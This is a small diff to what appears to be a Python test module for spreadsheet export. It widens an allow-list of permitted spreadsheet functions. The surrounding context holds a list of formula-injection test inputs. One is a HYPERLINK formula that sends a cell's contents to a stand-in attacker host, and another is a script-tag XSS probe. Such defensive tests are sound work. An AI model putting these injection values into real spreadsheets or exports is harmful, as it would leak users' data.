@@ -43,7 +43,8 @@ MILESTONE_PARAMS = {"scenario": "base", "currency": "EUR", "start_year": 2020, "
 HOSTILE = ["=1+1", '=HYPERLINK("http://evil.example/?d="&A3,"Click me")', "+1", "-1",
            "@SUM(1)", "\tleading tab", "#N/A", "<script>alert(1)</script>", "==== title", "#REF!"]
 ALLOWED_FUNCTIONS = {"SUM", "SUMIFS", "COUNTIFS", "SUMPRODUCT", "INDEX", "MATCH", "IF", "AND",
-                     "NOT", "MIN", "MAX", "ABS", "ROUND", "ISNUMBER", "LOWER", "ROWS"}
+                     "NOT", "MIN", "MAX", "ABS", "ROUND", "ISNUMBER", "LOWER", "ROWS", "IFERROR", "INT",
+                     "VALUE", "OR", "TRIM"}
 
 
 # ------------------------------------------------------------------------------ fixtures
